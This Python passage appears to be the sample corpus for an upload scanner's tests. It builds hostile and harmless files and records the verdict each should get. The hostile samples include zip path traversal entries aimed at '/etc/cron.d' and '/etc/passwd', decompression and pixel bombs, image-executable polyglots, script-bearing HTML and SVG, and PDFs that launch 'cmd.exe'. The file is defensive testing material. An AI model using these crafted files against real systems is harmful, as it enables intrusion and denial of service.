_add("zip-end-in-comment", "papers.zip", ZIP, _end_in_comment, "never_clean", "another archive in the comment")
_add("zip-comment-exe", "papers.zip", ZIP, lambda: archive([Member(b"page.pdf", pdf.ordinary())], comment=portable_executable()),
     "never_clean", "a program in the comment")  # fmt: skip
_add("zip-behind-exe", "papers.zip", ZIP, lambda: portable_executable() + zip_of({"page.pdf": pdf.ordinary()}), "never_clean",
     "an archive that unpacks itself")  # fmt: skip
_add("zip-behind-exe-offsets", "papers.zip", ZIP,
     lambda: archive([Member(b"page.pdf", pdf.ordinary())], prefix=portable_executable()), "never_clean",
     "an archive that unpacks itself, its offsets right")  # fmt: skip
_add("zip-behind-junk", "papers.zip", ZIP, lambda: archive([Member(b"page.pdf", pdf.ordinary())], prefix=b"<html><script>1</script>\n"),
     "never_clean", "a page of HTML before the archive")  # fmt: skip
_add("zip-traversal", "papers.zip", ZIP, lambda: zip_of({"../../../etc/cron.d/x": b"x"}), "never_clean", "a name that leaves the folder")
_add("zip-traversal-windows", "papers.zip", ZIP, lambda: zip_of({"..\\..\\Startup\\x.txt": b"x"}), "never_clean", "the same for Windows")
_add("zip-absolute", "papers.zip", ZIP, lambda: zip_of({"/etc/passwd": b"x"}), "never_clean", "an absolute name")
_add("zip-drive", "papers.zip", ZIP, lambda: zip_of({"C:/Windows/x.txt": b"x"}), "never_clean", "a drive")
_add("zip-share", "papers.zip", ZIP, lambda: zip_of({"\\\\192.0.2.7\\s\\x.txt": b"x"}), "never_clean", "a share")
_add("zip-symlink", "papers.zip", ZIP, lambda: archive([Member(b"link.txt", b"/etc/passwd", external=_SYMLINK)]), "never_clean",
     "a symbolic link")  # fmt: skip
_add("zip-symlink-then-file", "papers.zip", ZIP,
     lambda: archive([Member(b"d", b"/tmp", external=_SYMLINK), Member(b"d/x.txt", b"x")]), "never_clean", "a file through a link")  # fmt: skip
_add("zip-device", "papers.zip", ZIP, lambda: archive([Member(b"null", external=0o020666 << 16)]), "never_clean", "a device")
_add("zip-nul-in-name", "papers.zip", ZIP, lambda: archive([Member(b"a.exe\0.pdf", pdf.ordinary())]), "never_clean", "NUL in a name")
_add("zip-empty-name", "papers.zip", ZIP, lambda: archive([Member(b"", pdf.ordinary())]), "never_clean", "a member without a name")
_add("zip-same-name", "papers.zip", ZIP, lambda: archive([Member(b"page.pdf", pdf.ordinary()), Member(b"page.pdf", portable_executable())]),
     "never_clean", "two members of one name: readers differ in which they show")  # fmt: skip
_add("zip-names-differ", "papers.zip", ZIP,
     lambda: archive([Member(b"page.pdf", pdf.ordinary(), local_name=b"page.exe")]), "never_clean",
     "another name in the local header")  # fmt: skip
_add("zip-method-differs", "papers.zip", ZIP, lambda: archive([Member(b"page.pdf", pdf.ordinary(), local_method=0)]), "never_clean",
     "another method in the local header")  # fmt: skip
_add("zip-wrong-crc", "papers.zip", ZIP, lambda: archive([Member(b"page.pdf", pdf.ordinary(), crc=1)]), "never_clean", "a wrong checksum")
_add("zip-unknown-method", "papers.zip", ZIP, lambda: archive([Member(b"page.pdf", pdf.ordinary(), packed=b"abc", method=77)]),
     "never_clean", "a method that nobody knows")  # fmt: skip
_add("zip-truncated", "papers.zip", ZIP, lambda: zip_of({"page.pdf": pdf.ordinary()})[:-30], "never_clean", "an archive without its end")
_add("zip-first-half", "papers.zip", ZIP, lambda: zip_of({"a.txt": _noise(9_000), "b.txt": _noise(9_000)})[:9_000], "never_clean", "half an archive")
_add("zip-encrypted", "papers.zip", ZIP, lambda: archive([zips.encrypted_member(b"page.pdf", pdf.ordinary())]), "unscannable",
     "an archive with a password")  # fmt: skip
_add("zip-encrypted-partly", "papers.zip", ZIP,
     lambda: archive([Member(b"first.pdf", pdf.ordinary()), zips.encrypted_member(b"second.pdf", pdf.ordinary())]), "unscannable",
     "one of two members with a password")  # fmt: skip
_add("zip-encrypted-aes", "papers.zip", ZIP, lambda: archive([zips.aes_member(b"page.pdf", pdf.ordinary())]), "unscannable",
     "an archive with a password, in WinZip's way")  # fmt: skip
_add("zip-encrypted-within", "papers.zip", ZIP,
     lambda: zip_of({"more.zip": archive([zips.encrypted_member(b"page.pdf", pdf.ordinary())])}), "unscannable",
     "an archive with a password in an archive")  # fmt: skip
_add("zip-encrypted-blocked-name", "papers.zip", ZIP, lambda: archive([zips.encrypted_member(b"page.exe", pdf.ordinary())]), "never_clean",
     "a program with a password: its name is in the clear")  # fmt: skip
_add("zip-encrypted-flag-lies", "papers.zip", ZIP,
     lambda: archive([Member(b"page.pdf", portable_executable(), flags=zips.UTF8 | 1)]), "never_clean",
     "a program that says it is encrypted and isn't")  # fmt: skip
_add("seven-zip", "papers.7z", "application/x-7z-compressed", lambda: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(100), "never_clean",
     "an archive that can't be looked into")  # fmt: skip
_add("rar", "papers.rar", "application/vnd.rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(100), "never_clean",
     "an archive that can't be looked into")  # fmt: skip
_add("rar-as-pdf", "notice.pdf", PDF, lambda: b"Rar!\x1a\x07\0" + bytes(100), "never_clean", "an archive called .pdf")
_add("gzip-bomb", "papers.gz", "application/gzip",
     lambda: (lambda packed, crc: b"\x1f\x8b\x08" + bytes(7) + packed + struct.pack("<II", crc, 1 << 28))(*zips.deflated_zeros(1 << 28)),
     "never_clean", "256 MiB of zeros in gzip")  # fmt: skip

def _many_unsaid() -> bytes:
    one = Member(b"00000.txt", method=0)
    body = b"".join(Member(f"{n:05}.txt".encode(), method=0).local() for n in range(30_000))
    size = len(one.local())
    directory = b"".join(Member(f"{n:05}.txt".encode(), method=0).central(n * size) for n in range(30_000))
    return body + directory + zips.end(1, len(directory), len(body))


# --- Pictures -------------------------------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, depth: int = 8, colour: int = 2, packed: bytes | None = None, *, more: bytes = b"") -> bytes:
    if packed is None:
        row = bytes(1 + (width * depth * {0: 1, 2: 3, 6: 4}[colour] + 7) // 8)
        packed = zlib.compress(row * height, 9)
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + more + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")


def _png_flood_real() -> bytes:
    """60,000 x 60,000 pixels of one bit, all there: 450 MB in half a megabyte."""
    row = bytes(1 + 7_500)
    maker = zlib.compressobj(9)
    out = bytearray()
    for _ in range(600):
        out += maker.compress(row * 100)
    return png(60_000, 60_000, 1, 0, bytes(out + maker.flush()))


def _jpeg_head(width: int, height: int) -> bytes:
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + b"\xff\xdb\x00\x43\x00" + bytes([1]) * 64
        + b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
        + b"\xff\xc4\x00\x14\x00\x01" + bytes(15) + b"\x00"
        + b"\xff\xc4\x00\x14\x10\x01" + bytes(15) + b"\x00"
        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
    )  # fmt: skip


def _gif(width: int, height: int, frames: int = 1, frame_size: tuple[int, int] = (1, 1)) -> bytes:
    one = b"\x21\xf9\x04\x00\x02\x00\x00\x00\x2c" + struct.pack("<HHHH", 0, 0, *frame_size) + b"\x00\x02\x02\x44\x01\x00"
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00\x00\x00\x00\xff\xff\xff" + one * frames + b"\x3b"


def _tiff(width: int, height: int, *, next_at: int = 0, strip: bytes = b"\0" * 16) -> bytes:
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (278, 4, 1, height),
               (279, 4, 1, len(strip))]  # fmt: skip
    ifd_at = 8 + len(strip)
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries) + struct.pack("<I", next_at)
    return b"II*\0" + struct.pack("<I", ifd_at) + strip + ifd


def _tiff_of_many(count: int) -> bytes:
    """So many pages, each of one pixel."""
    out = bytearray(b"II*\0" + struct.pack("<I", 12) + b"\0\0\0\0")
    for n in range(count):
        entries = [(256, 4, 1, 1), (257, 4, 1, 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (278, 4, 1, 1), (279, 4, 1, 1)]
        after = len(out) + 2 + 12 * len(entries) + 4
        out += struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
        out += struct.pack("<I", after if n < count - 1 else 0)
    return bytes(out)


def _bmp(width: int, height: int) -> bytes:
    return b"BM" + struct.pack("<IHHI", 54 + 16, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 16, 1, 1, 0, 0) + bytes(16)


def _webp_canvas(width: int, height: int) -> bytes:
    inside = b"WEBPVP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", len(inside)) + inside


_add("png-flood-head", "photo.png", PNG, lambda: png(60_000, 60_000, packed=zlib.compress(bytes(100))), "never_clean", "60,000 x 60,000 in a head")
_add("png-flood-real", "photo.png", PNG, _png_flood_real, "never_clean", "60,000 x 60,000 pixels, all of them there", heavy=True)
_add("png-flood-most", "photo.png", PNG, lambda: png(0x7FFFFFFF, 0x7FFFFFFF, packed=zlib.compress(bytes(100))), "never_clean",
     "as large as a head can say")  # fmt: skip
_add("png-flood-wide", "photo.png", PNG, lambda: png(2_000_000_000, 1, 1, 0, zlib.compress(bytes(100))), "never_clean", "wide and one high")
_add("png-text-bomb", "photo.png", PNG,
     lambda: png(8, 8, more=png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9))), "bounded", "200 MB of text in a picture")  # fmt: skip
_add("png-profile-bomb", "photo.png", PNG,
     lambda: png(8, 8, more=png_chunk(b"iCCP", b"profile\0\0" + zlib.compress(bytes(200_000_000), 9))), "bounded", "200 MB of profile")  # fmt: skip
_add("png-zero", "photo.png", PNG, lambda: png(0, 0, packed=zlib.compress(b"")), "never_clean", "no pixels at all")
_add("png-bad-crc", "photo.png", PNG, lambda: png(8, 8)[:-4] + b"abcd", "bounded", "a wrong checksum at the end")
_add("png-cut", "photo.png", PNG, lambda: png(400, 400, packed=zlib.compress(_noise(1201 * 400)))[:200_000], "never_clean", "half a picture")
_add("gif-flood", "photo.gif", GIF, lambda: _gif(60_000, 60_000), "never_clean", "60,000 x 60,000 in a head")
_add("gif-flood-frame", "photo.gif", GIF, lambda: _gif(10, 10, 1, (60_000, 60_000)), "never_clean", "a frame larger than its picture")
_add("gif-many-frames", "photo.gif", GIF, lambda: _gif(5_000, 5_000, 20_000), "never_clean", "20,000 frames of 25 million pixels")
_add("tiff-flood", "scan.tif", TIFF, lambda: _tiff(60_000, 60_000), "never_clean", "60,000 x 60,000 in a head")
_add("tiff-loop", "scan.tif", TIFF, lambda: _tiff(8, 8, next_at=24), "never_clean", "pages that go round in a circle")
_add("tiff-many-pages", "scan.tif", TIFF, lambda: _tiff_of_many(50_000), "never_clean", "50,000 pages")
_add("bmp-flood", "scan.bmp", "image/bmp", lambda: _bmp(60_000, 60_000), "never_clean", "60,000 x 60,000 in a head")
_add("bmp-flood-negative", "scan.bmp", "image/bmp", lambda: _bmp(60_000, -60_000), "never_clean", "the same upside down")
_add("jpeg-flood", "photo.jpg", JPEG, lambda: _jpeg_head(65_500, 65_500) + b"\x00\xff\xd9", "never_clean", "65,500 x 65,500 in a head")
_add("webp-flood", "photo.webp", "image/webp", lambda: _webp_canvas(1 << 24, 1 << 8), "never_clean", "4,294,967,296 pixels in a head")
_add("png-flood-in-zip", "papers.zip", ZIP, lambda: zip_of({"photo.png": png(60_000, 60_000, packed=zlib.compress(bytes(100)))}), "bounded",
     "a flood within an archive, which nobody draws")  # fmt: skip
_add("heic-of-junk", "photo.heic", "image/heic",
     lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + struct.pack(">I", 1000) + b"meta" + _noise(992), "never_clean", "a head and junk")  # fmt: skip
_add("jpeg-cut", "photo.jpg", JPEG, lambda: photograph()[: len(photograph()) // 3], "never_clean", "the first third of a photograph")
_add("jpeg-head-only", "photo.jpg", JPEG, lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "never_clean", "a head and nothing else")

# --- Two kinds at once ----------------------------------------------------------------------------------------------

_HTML = b"<html><body onload=alert(document.cookie)><script>alert(1)</script></body></html>"


def _jpeg_with(comment: bytes) -> bytes:
    plain = photograph()
    return plain[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + plain[2:]


_add("gifar", "photo.gif", GIF, lambda: _gif(10, 10) + PROGRAMS["jar"](), "never_clean", "a picture that Java runs")
_add("jpeg-jar", "photo.jpg", JPEG, lambda: photograph() + PROGRAMS["jar"](), "never_clean", "a photograph that Java runs")
_add("jpeg-zip", "photo.jpg", JPEG, lambda: photograph() + zip_of({"run.exe": portable_executable()}), "never_clean",
     "a photograph with an archive behind")  # fmt: skip
_add("png-zip", "photo.png", PNG, lambda: png(8, 8) + zip_of({"run.exe": portable_executable()}), "never_clean", "a picture with an archive behind")
_add("png-exe", "photo.png", PNG, lambda: png(8, 8) + portable_executable(), "never_clean", "a picture with a program behind")
_add("pdf-zip", "notice.pdf", PDF, lambda: pdf.ordinary() + zip_of({"run.exe": portable_executable()}), "never_clean",
     "a PDF with an archive behind")  # fmt: skip
_add("pdf-zip-offsets", "notice.pdf", PDF,
     lambda: archive([Member(b"page.txt", b"hello", method=0)], prefix=pdf.ordinary()), "never_clean", "a PDF that is an archive too")  # fmt: skip
_add("zip-pdf-first", "notice.pdf", PDF, lambda: zip_of({"a.pdf": pdf.ordinary(), "run.exe": portable_executable()}, stored=True), "never_clean",
     "an archive whose first member shows as a PDF")  # fmt: skip
_add("html-then-pdf", "notice.pdf", PDF, lambda: _HTML.ljust(1_000, b" ") + pdf.ordinary(), "never_clean", "HTML, and a PDF from byte 1,000")
_add("exe-then-pdf", "notice.pdf", PDF, lambda: portable_executable()[:900] + pdf.ordinary(), "never_clean", "a program, and a PDF from byte 900")
_add("pdf-then-html", "notice.pdf", PDF, lambda: pdf.ordinary() + _HTML, "bounded", "a PDF with HTML behind: harmless as an attachment")
_add("tar-named-pdf", "notice.pdf", PDF, lambda: _tar({"%PDF-1.4\n%": b"x"}), "never_clean", "a tar whose first name is a PDF's head")
_add("html-in-jpeg", "photo.jpg", JPEG, lambda: _jpeg_with(_HTML), "never_clean", "HTML in a photograph's comment")
_add("html-behind-jpeg", "photo.jpg", JPEG, lambda: photograph() + _HTML, "never_clean", "HTML behind a photograph")
_add("script-in-gif", "photo.gif", GIF, lambda: b"GIF89a=1;alert(document.cookie);//" + bytes(10), "never_clean", "a script that begins as a picture")
_add("html-as-jpg", "photo.jpg", JPEG, lambda: _HTML, "never_clean", "HTML called .jpg")
_add("html-as-pdf", "notice.pdf", PDF, lambda: _HTML, "never_clean", "HTML called .pdf")
_add("html", "letter.html", "text/html", lambda: _HTML, "never_clean", "HTML with a script")
_add("html-as-text", "letter.txt", TEXT, lambda: b"\xef\xbb\xbf \n<!doctype html>" + _HTML, "never_clean", "HTML with a script called .txt")
_add("svg", "drawing.svg", "image/svg+xml",
     lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>', "never_clean", "SVG with a script")  # fmt: skip
_add("svg-as-png", "drawing.png", PNG, lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
     "never_clean", "SVG called .png")  # fmt: skip
_add("mhtml", "letter.mht", "multipart/related", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
     b"Content-Type: text/html\r\n\r\n" + _HTML + b"\r\n--b--\r\n", "never_clean", "a web archive")  # fmt: skip
_add("mp4-as-jpg", "photo.jpg", JPEG, lambda: b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(500), "never_clean", "a film called .jpg")

# --- Not what it says -----------------------------------------------------------------------------------------------

_add("pdf-as-jpg", "photo.jpg", JPEG, lambda: pdf.ordinary(), "never_clean", "a PDF called .jpg")
_add("zip-as-pdf", "notice.pdf", PDF, lambda: zip_of({"a.txt": b"x"}), "never_clean", "an archive called .pdf")
_add("jpeg-as-pdf", "notice.pdf", PDF, lambda: photograph(), "never_clean", "a photograph called .pdf")
_add("text-as-pdf", "notice.pdf", PDF, lambda: b"Dear advocate,\n", "never_clean", "text called .pdf")
_add("png-as-docx", "letter.docx", DOCX, lambda: png(8, 8), "never_clean", "a picture called .docx")
_add("docx-as-pdf", "letter.pdf", PDF, lambda: docx(), "never_clean", "a document called .pdf")
_add("noise-as-text", "notes.txt", TEXT, lambda: _noise(5_000), "never_clean", "noise called .txt")
for _extension, _type in (("pdf", PDF), ("jpg", JPEG), ("png", PNG), ("docx", DOCX), ("zip", ZIP), ("heic", "image/heic"), ("tif", TIFF)):
    _add(f"noise-as-{_extension}", f"paper.{_extension}", _type, lambda: _noise(5_000), "never_clean", f"noise called .{_extension}")
    _add(f"zeros-as-{_extension}", f"paper.{_extension}", _type, lambda: bytes(5_000), "never_clean", f"zeros called .{_extension}")
    _add(f"nothing-as-{_extension}", f"paper.{_extension}", _type, lambda: b"", "never_clean", f"nothing called .{_extension}")
_add("pdf-head-only", "notice.pdf", PDF, lambda: b"%PDF-1.7\n", "never_clean", "a head and nothing else")
_add("pdf-half", "notice.pdf", PDF, lambda: pdf.with_image(_scan())[:20_000], "never_clean", "half a PDF")
_add("pdf-noise", "notice.pdf", PDF, lambda: b"%PDF-1.7\n" + _noise(20_000) + b"\n%%EOF\n", "never_clean", "a head, noise, an end")
_add("docx-cut", "letter.docx", DOCX, lambda: docx()[:-40], "never_clean", "a document without its end")

# --- PDF ------------------------------------------------------------------------------------------------------------

_ALERT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _pdf_with_file(name: str, data: bytes) -> bytes:
    files = f"/Names << /EmbeddedFiles << /Names [({name}) 8 0 R] >> >>"
    return pdf.with_objects(
        {
            8: f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 9 0 R >> >>".encode(),
            9: pdf.flate(data, "/Type /EmbeddedFile"),
        },
        catalogue=files,
    )


def _hidden_script() -> bytes:
    everything = pdf.objects(catalogue=f"/OpenAction {_ALERT}")
    return pdf.with_object_stream({n: data for n, data in everything.items() if n != 4}, {4: everything[4]})


_add("pdf-script", "notice.pdf", PDF, lambda: pdf.with_objects({}, catalogue=f"/OpenAction {_ALERT}"), "never_clean", "a script that runs at opening")
_add("pdf-script-compressed", "notice.pdf", PDF, _hidden_script, "never_clean", "the same within a compressed object")
_add("pdf-script-spelt", "notice.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue="/#4fpen#41ction << /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>"), "never_clean",
     "the same in escaped names")  # fmt: skip
_add("pdf-script-in-names", "notice.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue=f"/Names << /JavaScript << /Names [(a) {_ALERT}] >> >>"), "never_clean", "a script of the document")  # fmt: skip
_add("pdf-script-of-page", "notice.pdf", PDF, lambda: pdf.with_objects({}, page=f"/AA << /O {_ALERT} >>"), "never_clean",
     "a script that runs when a page is shown")  # fmt: skip
_add("pdf-script-stream", "notice.pdf", PDF,
     lambda: pdf.with_objects({8: pdf.flate(b"app.alert(1)")}, catalogue="/OpenAction << /S /JavaScript /JS 8 0 R >>"), "never_clean",
     "a script in a stream")  # fmt: skip
_add("pdf-launch", "notice.pdf", PDF,
     lambda: pdf.with_objects({}, catalogue="/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), "never_clean",
     "starts a program at opening")  # fmt: skip
_add("pdf-launch-link", "notice.pdf", PDF,
     lambda: pdf.with_objects({}, page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (cmd.exe) >> >>]"),
     "never_clean", "starts a program when the page is clicked")  # fmt: skip
_add("pdf-exe", "notice.pdf", PDF, lambda: _pdf_with_file("invoice.exe", portable_executable()), "never_clean", "a program attached")
_add("pdf-exe-renamed", "notice.pdf", PDF, lambda: _pdf_with_file("invoice.pdf", portable_executable()), "never_clean",
     "a program attached under another name")  # fmt: skip
_add("pdf-macro-attached", "notice.pdf", PDF, lambda: _pdf_with_file("budget.xlsm", _macro_xlsx()), "never_clean", "a macro workbook attached")
_add("pdf-attached-annotation", "notice.pdf", PDF,
     lambda: pdf.with_objects({8: b"<< /Type /Filespec /F (run.exe) /EF << /F 9 0 R >> >>", 9: pdf.stream(portable_executable())},
                              page="/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 8 0 R >>]"),
     "never_clean", "a program attached to a note")  # fmt: skip
_add("pdf-password", "statement.pdf", PDF, lambda: pdf.encrypted(b"1234"), "unscannable", "a PDF with a password to open it")
_add("pdf-password-in-zip", "papers.zip", ZIP, lambda: zip_of({"statement.pdf": pdf.encrypted(b"1234")}), "never_clean",
     "a PDF with a password in an archive")  # fmt: skip
_add("pdf-unknown-encryption", "statement.pdf", PDF,
     lambda: pdf.assemble(pdf.objects() | {7: b"<< /Filter /Acme.Lock /V 9 >>"}, "/Encrypt 7 0 R /ID [<00> <00>]"), "never_clean",
     "a PDF encrypted in a way that nobody knows")  # fmt: skip
_add("pdf-restricted", "statement.pdf", PDF, lambda: pdf.encrypted(b""), "bounded",
     "a PDF that opens for all but may not be printed, as banks make them: better clean than unscannable")  # fmt: skip
_add("pdf-million-pages", "notice.pdf", PDF, lambda: pdf.many_pages(3, 100), "bounded", "a million pages from a few objects")
_add("pdf-most-pages", "notice.pdf", PDF, lambda: pdf.many_pages(9, 100), "bounded", "10**18 pages from a few objects")
_add("pdf-page-loop", "notice.pdf", PDF,
     lambda: pdf.assemble(pdf.objects() | {2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"}), "bounded", "pages that hold themselves")  # fmt: skip
_add("pdf-huge-page", "notice.pdf", PDF,
     lambda: pdf.assemble(pdf.objects() | {3: pdf.objects()[3].replace(b"[0 0 612 792]", b"[0 0 99999999 99999999]")}), "bounded",
     "a page as large as a country")  # fmt: skip
_add("pdf-image-flood", "notice.pdf", PDF,
     lambda: pdf.with_image(pdf.flate(bytes(10_000), "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB")),
     "bounded", "a picture of 60,000 x 60,000 on a page")  # fmt: skip
_add("pdf-stream-bomb", "notice.pdf", PDF,
     lambda: pdf.assemble(pdf.objects(content=pdf.stream(zlib.compress(zlib.compress(b" " * 300_000_000, 9), 9), "/Filter [/FlateDecode /FlateDecode]"))),
     "bounded", "300 MB of spaces in a page's content, packed twice", heavy=True)  # fmt: skip
_add("pdf-deep", "notice.pdf", PDF, lambda: pdf.with_objects({8: b"[" * 200_000 + b"]" * 200_000}), "bounded", "200,000 arrays one in another")
_add("pdf-xref-loop", "notice.pdf", PDF,
     lambda: (lambda made: made[: made.rindex(b"startxref")].replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % made.rindex(b"xref\n0"))
              + made[made.rindex(b"startxref"):])(pdf.ordinary()), "bounded", "cross-references that go round in a circle")  # fmt: skip

# --- Ordinary documents of ordinary people ----------------------------------------------------------------------------


def photograph(*, width: int = 640, height: int = 480, quality: int = 80, **save: object) -> bytes:
    """A photograph of a letter, as far as pixels go, with the place where it was taken and the way it was held."""
    from PIL import Image, ImageDraw  # noqa: PLC0415

    image = Image.new("RGB", (width, height), (240, 236, 228))
    draw = ImageDraw.Draw(image)
    for line in range(20):
        draw.rectangle((40, 40 + line * 20, width - 60 - (line * 37) % 90, 48 + line * 20), fill=(40, 40, 60))
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Telephones & Sons"
    exif[0x0132] = "2024:03:11 10:22:00"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (40.0, 26.0, 46.0), "W", (79.0, 58.0, 56.0)
    made = io.BytesIO()
    image.save(made, "JPEG", quality=quality, exif=exif, **save)
    return made.getvalue()


def _drawn(kind: str, mode: str = "RGB", size: tuple[int, int] = (300, 200), **save: object) -> bytes:
    from PIL import Image  # noqa: PLC0415

    made = io.BytesIO()
    Image.new(mode, size).save(made, kind, **save)
    return made.getvalue()


def _fax() -> bytes:
    from PIL import Image  # noqa: PLC0415

    pages = [Image.new("1", (1728, 2200), 1) for _ in range(3)]
    made = io.BytesIO()
    pages[0].save(made, "TIFF", save_all=True, append_images=pages[1:], compression="group4")
    return made.getvalue()


def _with_xmp() -> bytes:
    packet = (
        b"http://ns.adobe.com/xap/1.0/\0<?xpacket begin='\xef\xbb\xbf' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta xmlns:x='adobe:ns:meta/'>"
        b"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/></x:xmpmeta><?xpacket end='w'?>"
    )
    plain = photograph()
    return plain[:2] + b"\xff\xe1" + struct.pack(">H", len(packet) + 2) + packet + plain[2:]


def _scan(noise: int = 60_000) -> bytes:
    """A page's picture as a stream object."""
    size = 200
    return pdf.stream(
        zlib.compress(_noise(noise).ljust(size * size * 3, b"\xff")[: size * size * 3], 6),
        f"/Type /XObject /Subtype /Image /Width {size} /Height {size} /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode",
    )


def _pdf_with_accidental_words() -> bytes:
    """A scan in whose bytes there stands by accident what a careless search takes for something else."""
    pixels = b"\x10/JS \x00/AA \x00MZ\x90\x00 /JavaScript/Launch PK\x03\x04 <script> \x7fELF".ljust(120 * 120 * 3, b"\xee")
    return pdf.with_image(
        pdf.stream(pixels, "/Type /XObject /Subtype /Image /Width 120 /Height 120 /BitsPerComponent 8 /ColorSpace /DeviceRGB")
    )


def _typeset() -> bytes:
    """By a typesetter that other people use: compressed objects, subsets of fonts, metadata in XML."""
    import typst  # noqa: PLC0415

    return typst.compile(b"#set document(title: [Carta], date: none)\n= Carta al IRS\nSe\xc3\xb1or: no llega mi reembolso. #lorem(200)")


def _form() -> bytes:
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ana) /Rect [60 600 300 620] /P 3 0 R >>"
    return pdf.with_objects({8: field}, catalogue="/AcroForm << /Fields [8 0 R] >>", page="/Annots [8 0 R]")


def _link() -> bytes:
    return pdf.with_objects(
        {}, page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (https://www.irs.gov/911) >> >>]"
    )


def _mac_zip() -> bytes:
    folder = Member(b"Papers/", method=0, external=0o040755 << 16 | 0x10)
    return archive(
        [
            folder,
            Member("Papers/declaración.pdf".encode(), pdf.ordinary()),
            Member("__MACOSX/Papers/._declaración.pdf".encode(), b"\0\5\x16\7" + bytes(100)),
            Member(b"Papers/.DS_Store", b"\0\0\0\1Bud1" + bytes(200)),
        ]
    )


_add("harmless-pdf", "notice.pdf", PDF, pdf.ordinary, "clean", "a PDF")
_add("harmless-pdf-no-type", "notice.pdf", "", pdf.ordinary, "clean", "a browser that doesn't know")
_add("harmless-pdf-octets", "notice.pdf", UNKNOWN, pdf.ordinary, "clean", "a browser that doesn't know")
_add("harmless-pdf-capitals", "NOTICE.PDF", "Application/PDF", pdf.ordinary, "clean", "capitals")
_add("harmless-pdf-parameter", "notice.pdf", "application/pdf; charset=binary", pdf.ordinary, "clean", "a type with a parameter")
_add("harmless-pdf-typeset", "carta.pdf", PDF, _typeset, "clean", "a PDF by a typesetter")
_add("harmless-pdf-compressed", "carta.pdf", PDF,
     lambda: (lambda made: pdf.with_object_stream({n: data for n, data in made.items() if n != 4}, {4: made[4]}))(pdf.objects()), "clean",
     "a PDF with compressed objects")  # fmt: skip
_add("harmless-pdf-form", "f911.pdf", PDF, _form, "clean", "a form filled in")
_add("harmless-pdf-link", "letter.pdf", PDF, _link, "clean", "a link to the agency's site")
_add("harmless-pdf-scan", "scan.pdf", PDF, lambda: pdf.with_image(_scan()), "clean", "a scanned page")
_add("harmless-pdf-accidental", "scan.pdf", PDF, _pdf_with_accidental_words, "clean", "a scan whose bytes by accident look like words")
_add("harmless-pdf-about-scripts", "course.pdf", PDF, lambda: pdf.ordinary("My course: /JavaScript /Launch and /OpenAction in a day"), "clean",
     "text that speaks of scripts")  # fmt: skip
_add("harmless-pdf-changed", "letter.pdf", PDF,
     lambda: pdf.ordinary() + b"9 0 obj\n(more)\nendobj\nxref\n9 1\n%010d 00000 n \ntrailer\n<< /Size 10 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
     % (len(pdf.ordinary()), pdf.ordinary().rindex(b"xref\n0"), len(pdf.ordinary()) + 22), "clean", "a PDF that was signed or annotated")  # fmt: skip
_add("harmless-pdf-line-behind", "letter.pdf", PDF, lambda: pdf.ordinary() + b"\r\n\0\0", "clean", "a few bytes that a scanner left behind the end")
_add("harmless-jpeg", "IMG_0001.JPG", JPEG, photograph, "clean", "a photograph with the place where it was taken")
_add("harmless-jpeg-old-type", "photo.jpg", "image/jpg", photograph, "clean", "a type that isn't one, and common")
_add("harmless-jpeg-jpeg", "photo.jpeg", JPEG, lambda: photograph(progressive=True), "clean", "a progressive one")
